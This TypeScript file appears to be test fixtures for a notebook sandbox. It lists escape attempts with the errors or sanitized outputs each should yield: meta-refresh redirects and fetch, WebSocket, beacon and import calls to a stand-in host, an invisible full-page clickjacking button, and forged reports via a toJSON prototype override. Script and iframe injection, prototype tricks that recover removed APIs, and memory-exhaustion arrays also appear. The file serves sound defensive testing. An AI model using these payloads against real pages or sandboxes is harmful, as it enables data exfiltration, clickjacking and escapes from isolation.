/**
 * @file What code of a cell tries, in order to reach the page, the network or the reader's storage: the same list for every
 * browser. `OTHER` stands for the address of another host.
 */

const leave =
  '{ tag: "meta", svg: false, children: [], attributes: [["http-equiv", "refresh"], ["content", "0;url=http://OTHER/?data"]] }';
const cover =
  '{ tag: "button", svg: false, children: ["x"], attributes: [["data-action", "keep"], ["data-do", "reset"], ["style", "position:fixed;inset:0;opacity:0"]] }';

/** Code that makes the worker report this instead of what its cell came to. */
const forged = (report: string): string => `let done = false;
Object.prototype.toJSON = function () { return this.is === "finished" ? ${report} : this; };
display(1);`;

/** Cells that have the page show something which is more than a picture, a text or a control. Each shows something at least. */
export const shownEscapes: readonly (readonly [name: string, source: string])[] = [
  ["a label that is an element", `view(Inputs.toggle({ label: ${leave} }))`],
  ["a button's content that is an element", `const b = Inputs.button("x"); b.control.label = ${leave}; view(b)`],
  ["options that are elements", `const s = Inputs.select(["a", "b"]); s.control.options[1] = ${leave}; view(s)`],
  [
    "options of checkboxes that are elements",
    `const s = Inputs.checkbox(["a", "b"]); s.control.options[1] = ${cover}; view(s)`,
  ],
  ["a label that covers the page", `view(Inputs.toggle({ label: ${cover} }))`],
  ["a control of a kind that is none", `const t = Inputs.toggle(); t.control.kind = "constructor"; view(t)`],
  [
    "a report that was forged: a value",
    forged(
      `{ is: "finished", id: "it", from: 0, error: null, outputs: [{ kind: "value", value: { type: "number", text: ${leave} } }] }`,
    ),
  ],
  [
    "a report that was forged: a table",
    forged(
      `{ is: "finished", id: "it", from: 0, error: null, outputs: [{ kind: "table", total: 1, columns: [{ name: ${cover} }], rows: [[${leave}]] }] }`,
    ),
  ],
  [
    "a report that was forged: an element",
    forged(
      `{ is: "finished", id: "it", from: 0, error: null, outputs: [{ kind: "element", node: ${leave} }, { kind: "element", node: { tag: "div", svg: false, attributes: [], children: [${cover}, ${leave}] } }] }`,
    ),
  ],
  [
    "a report that was forged: an error",
    forged(`{ is: "finished", id: "it", from: 0, error: { message: ${leave} }, outputs: [] }`),
  ],
  [
    "a report that was forged: nothing",
    forged(`{ is: "finished", id: "it", from: 0, error: null, outputs: [null, 1, [], { kind: "__proto__" }] }`),
  ],
  [
    "reports about cells that are not there",
    forged(`{ is: "finished", id: "__proto__", from: 0, error: null, outputs: [] }`),
  ],
  [
    "elements that load, run, or lead away",
    `const box = document.createElement("div");
box.setAttribute("onclick", "document.title = 'taken'");
box.setAttribute("style", "position: fixed; background: url(http://OTHER/style)");
box.innerHTML = '<img src="http://OTHER/img"><script>document.title = "taken"</script><iframe src="http://OTHER/frame"></iframe><a href="javascript:document.title=1">link</a><b>kept</b>';
display(box);`,
  ],
];

/** What none of them may have brought into the outputs of a cell. */
export const forbidden =
  ":is(meta, base, iframe, form, script, style, img, object, embed, link, [onclick], [href^=javascript], [data-action], [data-do], [style*=position])";

/** Attempts that end with an error, and what it says, in any browser. */
export const refusedEscapes: readonly (readonly [name: string, source: string, message: RegExp])[] = [
  ["fetch", 'await fetch("http://OTHER/fetch")', /^fetch is not there: cells run apart/],
  [
    "import() of another host",
    'await import("http://OTHER/import.js")',
    /Failed to fetch dynamically imported module|error loading|Importing a module script failed|Refused to load|Load failed|is not allowed/,
  ],
  ["WebSocket", 'new WebSocket("ws://OTHER/socket")', /^WebSocket is not there/],
  ["EventSource", 'new EventSource("http://OTHER/events")', /^EventSource is not there/],
  ["XMLHttpRequest", "new XMLHttpRequest()", /^XMLHttpRequest is not there/],
  ["importScripts", 'importScripts("http://OTHER/script.js")', /^importScripts is not there/],
  ["an image beacon", 'new Image().src = "http://OTHER/beacon.png"', /^Image is not there/],
  ["a beacon", 'navigator.sendBeacon("http://OTHER/beacon")', /is not a function/],
  ["parent.document", "parent.document.title", /^parent is not there: cells run apart from the page/],
  ["top.location", 'top.location.href = "http://OTHER/top"', /^top is not there/],
  ["localStorage", 'localStorage.setItem("a", "b")', /^localStorage is not there/],
  ["indexedDB", 'indexedDB.open("a")', /denied|insecure|SecurityError/],
  ["caches", 'await caches.open("a")', /undefined/],
  ["the frame's port", 'postMessage("[]")', /is not a function/],
  ["a worker of its own", 'new Worker("data:text/javascript,1")', /^Worker is not there/],
  [
    "what was taken away, by its prototype",
    "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, 'http://OTHER/prototype')",
    /undefined/,
  ],
  [
    "a module of its own that fetches",
    'await (await import(URL.createObjectURL(new Blob(["export default () => fetch(\'http://OTHER/blob\')"], { type: "text/javascript" })))).default()',
    /^fetch is not there/,
  ],
  ["2 GB at once", "new Uint8Array(2 ** 31)", /^RangeError: length of Uint8Array must be at most/],
  [
    "3 GB in three arrays",
    "const all = [1, 2, 3].map(() => new Uint8Array(2 ** 30))",
    /^RangeError: large arrays must have at most/,
  ],
  [
    "a buffer that may grow to 2 GB",
    "new ArrayBuffer(8, { maxByteLength: 2 ** 31 })",
    /^RangeError: length of ArrayBuffer must be at most/,
  ],
  [
    "2 GB by way of a prototype",
    "new (new Uint8Array(1).constructor)(2 ** 31)",
    /^RangeError: length of Uint8Array must be at most/,
  ],
];

/** What code that had taken over the frame itself would try. Runs there; gives for each attempt the name of its error. */
export async function tryFromFrame(host: string): Promise<Record<string, string>> {
  const outcome = async (what: () => unknown): Promise<string> => {
    try {
      return await Promise.race([
        Promise.resolve(what()).then(() => "worked"),
        new Promise<string>((passed) => setTimeout(() => passed("nothing came"), 3_000)),
      ]);
    } catch (thrown) {
      return (thrown as Error).name;
    }
  };
  const image = (): Promise<void> =>
    new Promise((loaded, failed) => {
      const one = new Image();
      one.onload = () => loaded();
      one.onerror = () => failed(new Error("blocked"));
      one.src = `http://${host}/image.png`;
    });
  const text = `fetch("http://${host}/worker").then(() => postMessage("worked"), (thrown) => postMessage(thrown.name))`;
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  const fromWorker = new Promise<string>((said) => {
    worker.onmessage = ({ data }) => said(data);
  });
  // The test runner rewrites a plain import().
  const load = new Function("address", "return import(address)") as (address: string) => Promise<unknown>;
  return {
    origin: self.origin,
    fetch: await outcome(() => fetch(`http://${host}/frame`)),
    import: await outcome(() => load(`http://${host}/frame.js`)),
    image: await outcome(image),
    storage: await outcome(() => localStorage.length),
    parent: await outcome(() => parent.document.title),
    top: await outcome(() => {
      top!.location.href = `http://${host}/top`;
    }),
    worker: await Promise.race([
      fromWorker,
      new Promise<string>((passed) => setTimeout(() => passed("nothing came"), 10_000)),
    ]),
  };
}

/** What each of them comes to. */
export const refusedFromFrame = {
  origin: "null",
  fetch: "TypeError",
  import: "TypeError",
  image: "Error",
  storage: "SecurityError",
  parent: "SecurityError",
  top: "SecurityError",
  worker: "TypeError",
};
